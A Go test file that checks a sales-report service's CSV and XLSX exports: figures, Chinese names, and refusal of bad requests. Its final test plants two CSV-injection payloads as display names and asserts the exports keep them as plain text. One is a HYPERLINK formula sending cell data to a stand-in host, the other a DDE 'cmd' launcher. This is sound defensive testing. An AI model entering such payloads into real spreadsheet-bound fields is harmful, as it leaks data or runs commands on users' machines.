package app_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"

	memberv1 "github.com/cqlive/alliance/gen/pb/alliance/member/v1"
	salesv1 "github.com/cqlive/alliance/gen/pb/alliance/sales/v1"
	typev1 "github.com/cqlive/alliance/gen/pb/alliance/type/v1"
	"github.com/cqlive/alliance/services/kit/testkit"
	"github.com/xuri/excelize/v2"
	"google.golang.org/grpc/codes"
)

// download runs an export over gRPC and joins its chunks.
func (e *env) download(ctx context.Context, q *salesv1.QuerySalesReportRequest, format string) (data []byte, name, contentType string, err error) {
	stream, err := e.sales.ExportSalesReport(ctx, &salesv1.ExportSalesReportRequest{Query: q, Format: format})
	if err != nil {
		return nil, "", "", err
	}
	for {
		ch, err := stream.Recv()
		if errors.Is(err, io.EOF) {
			return data, name, contentType, nil
		}
		if err != nil {
			return nil, "", "", err
		}
		if name == "" {
			name, contentType = ch.GetFileName(), ch.GetContentType()
		}
		data = append(data, ch.GetData()...)
	}
}

// exportedTable reads an export back with a real reader: encoding/csv for
// CSV (after its byte-order mark), excelize for XLSX.
func exportedTable(t *testing.T, data []byte, format string) [][]string {
	t.Helper()
	if format == "CSV" {
		body, ok := bytes.CutPrefix(data, []byte("\ufeff"))
		if !ok {
			t.Fatal("the CSV has no byte-order mark")
		}
		r := csv.NewReader(bytes.NewReader(body))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	_, rows := openXLSX(t, data)
	return rows
}

// openXLSX opens an XLSX export with excelize, closed with the test, and
// reads its sheet's rows.
func openXLSX(t *testing.T, data []byte) (*excelize.File, [][]string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	rows, err := f.GetRows("report")
	if err != nil {
		t.Fatal(err)
	}
	return f, rows
}

// exportMatches checks an exported table against the report's rows and
// totals, cell by cell for what both show.
func exportMatches(t *testing.T, table [][]string, rows []*salesv1.ReportRow, totals *salesv1.Metrics, dims int) {
	t.Helper()
	col := map[string]int{}
	for i, h := range table[0] {
		col[h] = i
	}
	get := func(r []string, name string) string {
		if i, ok := col[name]; ok && i < len(r) {
			return r[i]
		}
		return ""
	}
	num := func(r []string, name string) int64 {
		v, err := strconv.ParseFloat(get(r, name), 64)
		if err != nil {
			t.Fatalf("%s = %q: %v", name, get(r, name), err)
		}
		return int64(v)
	}
	if len(table) != len(rows)+3 {
		t.Fatalf("%d lines, want header + %d rows + totals + data_through", len(table), len(rows))
	}
	check := func(line []string, m *salesv1.Metrics, what string) {
		for _, c := range []struct {
			name string
			want int64
		}{
			{"sessions", m.GetSessions()}, {"orders", m.GetOrders()}, {"units", m.GetUnits()},
			{"gross_fen", m.GetGross().GetMinorUnits()}, {"refunds_fen", m.GetRefunds().GetMinorUnits()}, {"net_fen", m.GetNet().GetMinorUnits()},
			{"views", m.GetViews()}, {"viewers", m.GetViewers()},
		} {
			if got := num(line, c.name); got != c.want {
				t.Fatalf("%s: %s = %d, report says %d", what, c.name, got, c.want)
			}
		}
		if y := get(line, "net_yuan"); y != fmt.Sprintf("%d.%02d", m.GetNet().GetMinorUnits()/100, m.GetNet().GetMinorUnits()%100) &&
			y != strconv.FormatFloat(float64(m.GetNet().GetMinorUnits())/100, 'f', -1, 64) {
			t.Fatalf("%s: net_yuan %q for %d fen", what, y, m.GetNet().GetMinorUnits())
		}
		if (m.Gpm == nil) != (get(line, "gpm_fen") == "") || m.Gpm != nil && num(line, "gpm_fen") != m.GetGpm().GetMinorUnits() {
			t.Fatalf("%s: gpm %q, report says %v", what, get(line, "gpm_fen"), m.Gpm)
		}
	}
	for i, r := range rows {
		line := table[i+1]
		if get(line, "period_start") != r.GetPeriodStart() || get(line, "period_end") != r.GetPeriodEnd() {
			t.Fatalf("line %d: period %v, report row %s..%s", i+1, line[:2], r.GetPeriodStart(), r.GetPeriodEnd())
		}
		for j, k := range r.GetKeys() {
			if line[2+2*j] != k.GetKey() || line[3+2*j] != k.GetDisplayName() {
				t.Fatalf("line %d: keys %v, report %v", i+1, line[2:2+2*dims], r.GetKeys())
			}
		}
		check(line, r.GetMetrics(), fmt.Sprintf("line %d", i+1))
	}
	check(table[len(rows)+1], totals, "totals")
	if last := table[len(table)-1]; last[0] != "data_through" || last[1] == "" {
		t.Fatalf("last line %v", last)
	}
}

// allRows is every page of a report.
func (e *env) allRows(ctx context.Context, q *salesv1.QuerySalesReportRequest) ([]*salesv1.ReportRow, *salesv1.Metrics) {
	e.t.Helper()
	var rows []*salesv1.ReportRow
	var totals *salesv1.Metrics
	q.PageSize = 2
	for {
		r, err := e.sales.QuerySalesReport(ctx, q)
		if err != nil {
			e.t.Fatal(err)
		}
		rows, totals = append(rows, r.GetRows()...), r.GetTotals()
		if q.PageToken = r.GetNextPageToken(); q.PageToken == "" {
			q.PageSize = 0
			return rows, totals
		}
	}
}

func TestExportsHoldTheReportsFigures(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	for i := range 40 {
		e.mustRecord(order(sEnded, []string{e.a.Tea, e.a.Hotpot}[i%2], ext("x", i), 1, int64(1000+i*37), t0.Add(time.Duration(i)*39*time.Minute)))
	}
	k := order(sKuaishou, e.a.Tea, "k1", 2, 12345, t0.Add(time.Hour))
	k.Platform = typev1.Platform_PLATFORM_KUAISHOU
	e.mustRecord(k)
	if _, err := e.recordMetrics(ctx, traffic(sEnded, 2*time.Hour, 7)); err != nil {
		t.Fatal(err)
	}
	q := &salesv1.QuerySalesReportRequest{StartDate: "2026-03-01", EndDate: "2026-04-01", Granularity: salesv1.Granularity_GRANULARITY_DAY,
		GroupBy: []salesv1.Dimension{salesv1.Dimension_DIMENSION_DISTRICT, salesv1.Dimension_DIMENSION_CATEGORY}}
	rows, totals := e.allRows(ctx, q)
	if len(rows) < 5 {
		t.Fatalf("only %d rows", len(rows))
	}
	for _, format := range []string{"CSV", "XLSX"} {
		t.Run(format, func(t *testing.T) {
			data, name, ct, err := e.download(ctx, q, strings.ToLower(format))
			if err != nil {
				t.Fatal(err)
			}
			if name != "sales-report-2026-03-01-2026-04-01."+strings.ToLower(format) || ct == "" {
				t.Fatalf("file %q of type %q", name, ct)
			}
			exportMatches(t, exportedTable(t, data, format), rows, totals, 2)
		})
	}
	t.Run("Chinese display names come through", func(t *testing.T) {
		data, _, _, err := e.download(ctx, q, "CSV")
		if err != nil || !strings.Contains(string(data), "九龙坡区") {
			t.Fatalf("%v: %.300s", err, data)
		}
	})
	t.Run("a bad request is refused before anything is sent", func(t *testing.T) {
		_, _, _, err := e.download(ctx, q, "PDF")
		wantErr(t, err, codes.InvalidArgument, "INVALID_ARGUMENT")
		_, _, _, err = e.download(ctx, &salesv1.QuerySalesReportRequest{StartDate: "2026-03-01", EndDate: "2026-02-01"}, "CSV")
		wantErr(t, err, codes.InvalidArgument, "INVALID_ARGUMENT")
	})
}

// A display name is a member's own text: one that starts as a formula
// (=, +, -, @, a tab or a carriage return) must reach a spreadsheet as
// that text, never as a formula it runs (CSV injection). The CSV keeps
// such a cell as text by a leading apostrophe, as spreadsheets read it;
// the XLSX holds it as a string cell, exactly.
func TestExportsKeepFormulaLikeNamesAsText(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	names := map[string]string{
		e.a.Host:         `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		e.a.OfficialHost: "@SUM(1+1)*cmd|' /C calc'!A0",
	}
	for name, display := range names {
		m, err := memberv1.NewMemberRegistryClient(testkit.Dial(t, e.regAddr)).GetMember(ctx, &memberv1.GetMemberRequest{Name: name})
		if err != nil {
			t.Fatal(err)
		}
		m.DisplayName = display
		e.reg.Put(m)
	}
	e.mustRecord(order(sEnded, e.a.Tea, "f1", 1, 1000, t0.Add(time.Hour)))
	k := order(sKuaishou, e.a.Tea, "f2", 1, 2000, t0.Add(time.Hour))
	k.Platform = typev1.Platform_PLATFORM_KUAISHOU
	e.mustRecord(k)
	q := &salesv1.QuerySalesReportRequest{StartDate: "2026-03-01", EndDate: "2026-04-01", Granularity: salesv1.Granularity_GRANULARITY_MONTH,
		GroupBy: []salesv1.Dimension{salesv1.Dimension_DIMENSION_HOST}}

	data, _, _, err := e.download(ctx, q, "CSV")
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, r := range exportedTable(t, data, "CSV")[1:] {
		if len(r) > 3 {
			got[r[2]] = r[3]
		}
	}
	for name, display := range names {
		if got[name] != "'"+display {
			t.Errorf("CSV: %s's name is %q, want %q (text, not a formula)", name, got[name], "'"+display)
		}
	}

	data, _, _, err = e.download(ctx, q, "XLSX")
	if err != nil {
		t.Fatal(err)
	}
	f, rows := openXLSX(t, data)
	seen := 0
	for i, r := range rows {
		if len(r) < 4 || names[r[2]] == "" {
			continue
		}
		seen++
		ref, _ := excelize.CoordinatesToCellName(4, i+1)
		formula, err := f.GetCellFormula("report", ref)
		if err != nil || formula != "" || r[3] != names[r[2]] {
			t.Errorf("XLSX %s: %q, formula %q (%v); want the name %q as text", ref, r[3], formula, err, names[r[2]])
		}
	}
	if seen != len(names) {
		t.Fatalf("XLSX: %d of the %d hosts found: %v", seen, len(names), rows)
	}
}
